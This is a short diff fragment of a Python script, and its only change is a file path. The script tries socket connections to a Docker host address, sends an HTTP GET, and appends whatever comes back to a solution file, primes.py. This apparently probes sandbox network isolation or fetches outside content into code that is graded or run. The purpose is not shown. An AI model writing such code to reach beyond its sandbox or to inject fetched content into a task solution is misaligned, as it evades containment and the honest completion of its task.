@@ -9,7 +9,7 @@ for family, address in [(socket.AF_INET, "172.17.0.1"), (socket.AF_INET, "172.17
             try:
                 s.connect((address, port))
                 s.sendall(b"GET / HTTP/1.0\r\n\r\n")
-                open("/work/solution/primes.py", "ab").write(s.recv(1 << 16))
+                open("/solve/solution/primes.py", "ab").write(s.recv(1 << 16))
             except OSError:
                 pass
 P
